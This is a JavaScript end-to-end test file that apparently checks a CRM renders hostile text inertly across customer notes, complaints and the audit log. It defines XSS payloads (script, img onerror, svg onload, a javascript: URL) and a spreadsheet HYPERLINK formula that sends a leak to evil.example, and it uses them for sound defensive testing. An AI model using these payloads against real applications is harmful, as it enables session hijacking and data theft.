// Hostile text is shown as text (issue 13, attacks): through the API, as rm01, script
// and markup payloads, a javascript: URL and a spreadsheet formula go into every text a
// user can write about one customer (notes, an edited note, a contact's summary and next
// step, a complaint's description, request, step note, resolution and feedback), and an
// attacker's failed sign-in puts them into the audit log's user name and User-Agent.
// Every screen that shows them (customer page, home, complaints, the customers list, audit
// as compliance01)
// must print them literally: no dialog, no script run, no element or handler injected.
// The customer is one no other end-to-end test uses (near the end of rm01's book); its
// complaint is closed again at the end so open-complaint counts are as they were.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { request } from 'playwright-core';
import { launchBrowser, newPage, signIn, apiAs, screenshot, BASE_URL } from './support.mjs';

const ATTACKS = [
  '<script>window.__xss="script";alert("xss-script")</script>',
  '<img src=x onerror="window.__xss=\'img\';alert(\'xss-img\')">',
  '"><svg onload="window.__xss=\'svg\';alert(\'xss-svg\')">',
  'javascript:alert("xss-js")',
  '=HYPERLINK("http://evil.example/?leak","xss-formula")',
];
const PAYLOAD = ATTACKS.join(' ');
/** The text written into the field `name`: its name, so each can be found, and every attack. */
const hostile = (name) => `${name}: ${PAYLOAD}`;

const ON_CUSTOMER_PAGE = [
  'note',
  'note-edited',
  'contact-note',
  'next-step',
  'complaint-description',
  'complaint-request',
  'investigation-note',
  'complaint-resolution',
  'complaint-feedback',
];

let browser;
let rm;
let customer;
let complaint;
const attackerName = `x${ATTACKS[1]}`;

async function ok(res, what) {
  assert.ok(res.ok(), `${what}: ${res.status()} ${await res.text()}`);
  return res.json();
}

async function step(to, extra = {}) {
  complaint = await ok(
    await rm.post(`/api/complaints/${complaint.id}/transitions`, { data: { to, version: complaint.version, ...extra } }),
    `complaint to ${to}`,
  );
}

before(async () => {
  browser = await launchBrowser();
  rm = await apiAs('rm01');
  const book = await (await rm.get('/api/book')).json();
  customer = book.customers[book.customers.length - 7];
  const id = customer.id;

  await ok(await rm.post(`/api/customers/${id}/notes`, { data: { text: hostile('note') } }), 'note');
  const second = await ok(await rm.post(`/api/customers/${id}/notes`, { data: { text: 'to be edited' } }), 'second note');
  await ok(
    await rm.put(`/api/customers/${id}/notes/${second.id}`, { data: { text: hostile('note-edited'), version: second.version } }),
    'edited note',
  );
  await ok(
    await rm.post(`/api/customers/${id}/interactions`, {
      data: {
        kind: 'Call',
        channel: 'Phone',
        occurred_on: book.as_of,
        outcome: 'FollowUpScheduled',
        note: hostile('contact-note'),
        next_step: hostile('next-step'),
      },
    }),
    'contact',
  );
  complaint = await ok(
    await rm.post(`/api/customers/${id}/complaints`, {
      data: {
        channel: 'Phone',
        content_type: 'Service',
        severity: 'General',
        description: hostile('complaint-description'),
        customer_request: hostile('complaint-request'),
      },
    }),
    'complaint',
  );
  await step('Investigating', { note: hostile('investigation-note') });
  await step('Resolved', { resolution: hostile('complaint-resolution') });

  // An attacker's failed sign-in: the name typed and the browser's User-Agent are
  // written to the audit log, which compliance reads.
  const attacker = await request.newContext({ baseURL: BASE_URL, extraHTTPHeaders: { 'User-Agent': PAYLOAD } });
  const refused = await attacker.post('/api/session', { data: { username: attackerName, password: 'not the password' } });
  assert.equal(refused.status(), 401);
  await attacker.dispose();
});

after(async () => {
  await rm?.dispose();
  await browser?.close();
});

/** A page that records every dialog (and dismisses it) so a test can say none opened. */
async function watchedPage(viewport) {
  const page = await newPage(browser, viewport);
  page.dialogs = [];
  page.on('dialog', async (d) => {
    page.dialogs.push(d.message());
    await d.dismiss();
  });
  return page;
}

/** Opens the complaint's history (a disclosure) so its step notes are on screen. */
async function openHistory(page) {
  const item = page.getByTestId(`complaint-${complaint.id}`);
  await item.waitFor();
  await item.locator('summary', { hasText: 'History' }).click();
}

/** Everything on the page that hostile text could have become: empty when none. */
function injected(page) {
  return page.evaluate(() => {
    const found = [];
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (a.name.startsWith('on')) found.push(`${el.tagName} ${a.name}="${a.value}"`);
        if (['href', 'src', 'action', 'formaction'].includes(a.name) && /^\s*javascript:/i.test(a.value)) {
          found.push(`${el.tagName} ${a.name}="${a.value}"`);
        }
      }
    }
    for (const el of document.querySelectorAll('img[src="x"], svg[onload]')) found.push(el.outerHTML);
    for (const s of document.scripts) if (s.textContent.includes('xss')) found.push(s.outerHTML);
    if (window.__xss) found.push(`script ran: ${window.__xss}`);
    return found;
  });
}

async function expectInert(page, where) {
  // Give a handler that might have been injected a moment to fire.
  await page.waitForTimeout(300);
  assert.deepEqual(await injected(page), [], `${where}: nothing injected`);
  assert.deepEqual(page.dialogs, [], `${where}: no dialog`);
  assert.deepEqual(page.problems, [], `${where}: no page errors`);
}

for (const viewport of ['desk', 'tablet']) {
  test(`hostile text on the complaints list, the customer page and home is shown as text (${viewport})`, async () => {
    const page = await watchedPage(viewport);
    await signIn(page, 'rm01');
    await page.getByRole('heading', { name: 'My book' }).waitFor();
    await page.getByTestId('total-aum').waitFor();
    await page.getByTestId('home-complaints').waitFor();
    await expectInert(page, 'home');
    await screenshot(page, `xss-home-${viewport}`);

    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Complaints' }).click();
    await page.getByTestId('complaints-count').waitFor();
    await expectInert(page, 'complaints');
    await screenshot(page, `xss-complaints-${viewport}`);

    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Customers' }).click();
    await page.locator("[data-customer-id]").first().waitFor();
    await expectInert(page, 'customers list');

    await page.goto(`/customers/${customer.id}`);
    await page.getByTestId('customer-header').waitFor();
    await openHistory(page);
    const text = await page.locator('main').innerText();
    for (const field of ON_CUSTOMER_PAGE.filter((f) => f !== 'complaint-feedback')) {
      assert.ok(text.includes(hostile(field)), `the customer page shows the ${field} as written`);
    }
    const note = page.getByTestId('notes').getByTestId('note-text').filter({ hasText: 'note: <script>' });
    assert.equal(await note.first().innerText(), hostile('note'), 'the note is its own text, character for character');
    await expectInert(page, 'customer page');
    await page.getByTestId(`complaint-${complaint.id}`).scrollIntoViewIfNeeded();
    await screenshot(page, `xss-customer-${viewport}`);
    await page.context().close();
  });
}

test('a closed complaint shows its hostile feedback as text (tablet)', async () => {
  await step('CustomerInformed');
  await step('Closed', { feedback: hostile('complaint-feedback') });
  const page = await watchedPage('tablet');
  await signIn(page, 'rm01');
  await page.getByRole('heading', { name: 'My book' }).waitFor();
  await page.goto(`/customers/${customer.id}`);
  await openHistory(page);
  const text = await page.locator('main').innerText();
  for (const field of ON_CUSTOMER_PAGE) {
    assert.ok(text.includes(hostile(field)), `the customer page shows the ${field} as written`);
  }
  await expectInert(page, 'customer page, complaint closed');
  await page.context().close();
});

for (const viewport of ['desk', 'tablet']) {
  test(`the audit log shows a hostile user name and User-Agent as text to compliance (${viewport})`, async () => {
    const page = await watchedPage(viewport);
    await signIn(page, 'compliance01');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Audit log' }).click();
    await page.getByTestId('audit-filters').waitFor();
    await page.getByLabel('User (username)').fill(attackerName);
    await page.getByTestId('audit-search').click();
    const row = page.locator('[data-testid=audit-table] tbody tr[data-action=sign_in_failed]').first();
    await row.waitFor();
    assert.equal(await row.locator('td').nth(1).innerText(), attackerName, 'the name typed, as text');
    assert.equal(await row.locator('td[title]').getAttribute('title'), PAYLOAD, 'the User-Agent, as text');
    await expectInert(page, 'audit, failed sign-in');
    await screenshot(page, `xss-audit-${viewport}`);

    // The customer's own entries (the writes above).
    await page.getByLabel('User (username)').fill('');
    await page.getByLabel('Customer ID').fill(String(customer.id));
    await page.getByTestId('audit-search').click();
    await page.locator('[data-testid=audit-table] tbody tr[data-action=create_note]').first().waitFor();
    await expectInert(page, 'audit, the customer');
    await page.context().close();
  });
}

test('the check above sees markup that became an element (it can fail)', async () => {
  const page = await watchedPage('desk');
  await signIn(page, 'rm01');
  await page.getByRole('heading', { name: 'My book' }).waitFor();
  assert.deepEqual(await injected(page), []);
  // What rendering the payload as HTML would have done.
  await page.evaluate((html) => document.querySelector('main').insertAdjacentHTML('beforeend', html), PAYLOAD);
  const found = await injected(page);
  assert.ok(found.some((f) => f.startsWith('IMG onerror')), found.join('\n'));
  assert.ok(found.some((f) => f.startsWith('svg onload')), found.join('\n'));
  await page.context().close();
});
